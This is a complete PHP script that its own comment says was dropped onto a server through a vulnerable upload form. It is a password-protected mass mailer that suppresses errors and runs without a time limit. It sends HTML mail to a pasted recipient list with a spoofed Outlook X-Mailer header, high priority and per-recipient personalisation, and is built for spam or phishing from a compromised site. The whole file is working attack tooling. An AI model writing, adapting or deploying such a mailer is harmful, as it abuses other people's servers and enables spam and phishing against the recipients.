<?php
// Dropped through a vulnerable upload form: a mass mailer driven by a web
// form. Recipients come from the request; one mail() per line, in a loop.
@set_time_limit(0);
@ignore_user_abort(true);
error_reporting(0);
if (md5($_POST['pass']) != '5f4dcc3b5aa765d61d8327deb882cf99') {
    echo '<form method="post"><input type="password" name="pass"></form>';
    exit;
}
$from    = $_POST['from'];
$subject = $_POST['subject'];
$body    = $_POST['body'];
$emails  = explode("\n", $_POST['emails']);
$sent = 0;
foreach ($emails as $to) {
    $to = trim($to);
    if ($to == '') continue;
    $headers  = "From: $from\r\n";
    $headers .= "X-Mailer: Microsoft Outlook 16.0\r\n";
    $headers .= "X-Priority: 1\r\n";
    $headers .= "Message-ID: <" . md5(uniqid(rand())) . "@" . $_SERVER['HTTP_HOST'] . ">\r\n";
    $headers .= "Content-Type: text/html\r\n";
    $msg = str_replace('[-email-]', $to, $body);
    if (mail($to, $subject, $msg, $headers)) {
        $sent++;
    }
    usleep(200000);
}
echo "sent: $sent";
